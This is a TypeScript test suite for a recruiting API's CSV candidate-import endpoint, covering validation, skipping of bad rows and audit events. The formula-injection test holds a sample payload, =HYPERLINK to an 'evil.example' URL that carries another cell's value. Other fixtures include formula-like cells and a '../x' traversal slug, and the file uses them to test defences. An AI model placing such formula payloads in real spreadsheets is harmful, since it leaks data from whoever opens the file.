import { describe, expect, it } from 'vitest';
import { type Auth, callRoute } from '@/test/fixtures';
import {
  api,
  auditEvents,
  countCandidates,
  createJobVia,
  expectError,
  person,
  recruiterToken,
} from '@/test/recruiting-fixtures';

const HEADER = 'first_name,last_name,email,phone,stage';

function importCsv(auth: Auth, slug: string, body: unknown) {
  return callRoute(api.jobImport.POST, { method: 'POST', auth, params: { slug }, body });
}

async function stagesOf(auth: Auth, slug: string): Promise<Record<string, string>> {
  const res = await callRoute(api.jobCandidates.GET, { auth, params: { slug }, path: '/x?limit=100' });
  return Object.fromEntries(res.body.data.map((c: { email: string; stage: string }) => [c.email, c.stage]));
}

describe('POST /api/v1/jobs/{slug}/candidates/import', () => {
  it('imports a spreadsheet export (BOM, CRLF, quoted fields) and records one candidate.imported event', async () => {
    const auth = await recruiterToken();
    const job = await createJobVia(auth);
    const csv = `\uFEFF${HEADER}\r\n"Doe, Jr.",Jane,JANE@example.test,"+1 (555) 010-0000",Hired\r\nJohn,"O""Neil",john@example.test,,\r\n`;
    const res = await importCsv(auth, job.slug, { csv });
    expect(res.status).toBe(201);
    expect(res.body).toEqual({ created: 2, skipped: [] });
    expect(await stagesOf(auth, job.slug)).toEqual({ 'jane@example.test': 'hired', 'john@example.test': 'applied' });
    const list = await callRoute(api.jobCandidates.GET, { auth, params: { slug: job.slug }, path: '/x?stage=hired' });
    expect(list.body.data[0]).toMatchObject({ first_name: 'Doe, Jr.', phone: '+1 (555) 010-0000' });
    expect(list.body.data[0].hired_at).toEqual(expect.any(String));
    const events = await auditEvents('candidate.imported', job.id);
    expect(events).toHaveLength(1);
    expect(events[0].details).toEqual({ job_slug: job.slug, count: 2, skipped: 0 });
  });

  it('lists every bad row and imports nothing unless told to skip them', async () => {
    const auth = await recruiterToken();
    const job = await createJobVia(auth);
    await callRoute(api.jobCandidates.POST, { method: 'POST', auth, params: { slug: job.slug }, body: person(9) });
    const csv = [
      HEADER,
      'Ann,One,ann@example.test,,',
      'Bob,Two,not-an-email,,',
      'Cy,Three,cy@example.test,,screening',
      ',Four,dee@example.test,,',
      'Ann,Again,ANN@example.test,,',
      'Nine,Existing,person9@example.test,,',
      'Eve,Five,eve@example.test,,boss',
    ].join('\n');
    const refused = await importCsv(auth, job.slug, { csv });
    expectError(refused, 422, 'validation_failed');
    expect(refused.body.error.message).toMatch(/5 rows have errors; nothing was imported/);
    expect(refused.body.error.details).toEqual([
      { row: 3, message: expect.stringMatching(/^email:/) },
      { row: 5, message: expect.stringMatching(/^first_name:/) },
      { row: 6, message: expect.stringMatching(/already on row 2/) },
      { row: 7, message: expect.stringMatching(/already a candidate/) },
      { row: 8, message: expect.stringMatching(/^stage:/) },
    ]);
    expect(await countCandidates(job.id)).toBe(1);
    expect(await auditEvents('candidate.imported', job.id)).toHaveLength(0);

    const skipped = await importCsv(auth, job.slug, { csv, skip_invalid: true });
    expect(skipped.status).toBe(201);
    expect(skipped.body.created).toBe(2);
    expect(skipped.body.skipped.map((s: { row: number }) => s.row)).toEqual([3, 5, 6, 7, 8]);
    expect(await stagesOf(auth, job.slug)).toEqual({
      'person9@example.test': 'applied',
      'ann@example.test': 'applied',
      'cy@example.test': 'screening',
    });
    const [event] = await auditEvents('candidate.imported', job.id);
    expect(event.details).toMatchObject({ count: 2, skipped: 5 });
  });

  // Issue 24 (u4): nothing to skip to, and row errors people can read.
  it('answers no_valid_rows when every row is bad, even with skip_invalid, with plain-language row errors', async () => {
    const auth = await recruiterToken();
    const job = await createJobVia(auth);
    const csv = [HEADER, 'Ann,One,ann@example.test,,boss', 'Bob,Two,,,', ',Three,not-an-email,,hired'].join('\n');
    for (const body of [{ csv }, { csv, skip_invalid: true }]) {
      const res = await importCsv(auth, job.slug, body);
      expectError(res, 422, 'no_valid_rows');
      expect(res.body.error.message).toBe('all 3 rows have errors; nothing can be imported');
      expect(res.body.error.details).toEqual([
        { row: 2, message: 'stage: must be one of: applied, screening, interview, offer, hired, rejected' },
        { row: 3, message: 'email: is required' },
        { row: 4, message: 'first_name: is required; email: must be a valid email address' },
      ]);
    }
    const one = await importCsv(auth, job.slug, { csv: `${HEADER}\nAnn,One,ann@example.test,,boss` });
    expectError(one, 422, 'no_valid_rows');
    expect(one.body.error.message).toBe('the only row has errors; nothing can be imported');
    expect(await countCandidates(job.id)).toBe(0);
    expect(await auditEvents('candidate.imported', job.id)).toHaveLength(0);
  });

  it('refuses a broken file as a whole, even with skip_invalid, as an error of the csv field', async () => {
    const auth = await recruiterToken();
    const job = await createJobVia(auth);
    const broken = [
      'name,email\nA,a@example.test',
      'first_name,last_name,email,age\nA,B,c@example.test,3',
      `${HEADER}\n`,
      `${HEADER}\nA,B,"c@example.test`,
      '\n\n',
    ];
    for (const csv of broken) {
      const res = await importCsv(auth, job.slug, { csv, skip_invalid: true });
      expectError(res, 422, 'validation_failed', csv);
      expect(res.body.error.details).toEqual([{ path: 'csv', message: expect.stringMatching(/^row \d+: /) }]);
    }
    expect(await countCandidates(job.id)).toBe(0);
  });

  it('refuses formula cells (CSV injection) with their row and column; + phone numbers are imported', async () => {
    const auth = await recruiterToken();
    const job = await createJobVia(auth);
    const csv = [
      HEADER,
      'Ann,One,ann@example.test,+44 20 7946 0000,',
      '=HYPERLINK("http://evil.example/?x="&C3),Two,bob@example.test,,',
      'Cy,@SUM(1),cy@example.test,,',
      'Dee,Four,dee@example.test,-1+2,',
      '"\tEve",Five,eve@example.test,,',
    ].join('\r\n');
    const refused = await importCsv(auth, job.slug, { csv });
    expectError(refused, 422, 'validation_failed');
    expect(refused.body.error.details).toEqual([
      { row: 3, message: expect.stringMatching(/^first_name: must not start with =, \+, -, @/) },
      { row: 4, message: expect.stringMatching(/^last_name: /) },
      { row: 5, message: expect.stringMatching(/^phone: /) },
      { row: 6, message: expect.stringMatching(/^first_name: /) },
    ]);
    expect(await countCandidates(job.id)).toBe(0);

    const skipped = await importCsv(auth, job.slug, { csv, skip_invalid: true });
    expect(skipped.status).toBe(201);
    expect(skipped.body).toMatchObject({ created: 1 });
    const list = await callRoute(api.jobCandidates.GET, { auth, params: { slug: job.slug }, path: '/x' });
    expect(list.body.data.map((c: { phone: string }) => c.phone)).toEqual(['+44 20 7946 0000']);
  });

  it('validates the request body and the posting', async () => {
    const auth = await recruiterToken();
    const job = await createJobVia(auth);
    for (const body of [{}, { csv: '' }, { csv: 1 }, { csv: HEADER, skip_invalid: 'yes' }, { csv: HEADER, x: 1 }]) {
      const res = await importCsv(auth, job.slug, body);
      expect(res.status, JSON.stringify(body)).toBe(422);
      expect(res.body.error.code).toBe('validation_failed');
    }
    const csv = `${HEADER}\nA,B,a@example.test,,`;
    const missing = await importCsv(auth, 'no-such-posting', { csv });
    expectError(missing, 404, 'job_not_found');
    expect((await importCsv(auth, '../x', { csv: 'broken' })).status).toBe(404);
    await callRoute(api.jobBySlug.PATCH, {
      method: 'PATCH',
      auth,
      params: { slug: job.slug },
      body: { status: 'closed' },
    });
    const closed = await importCsv(auth, job.slug, { csv });
    expectError(closed, 422, 'invalid_state');
  });
});
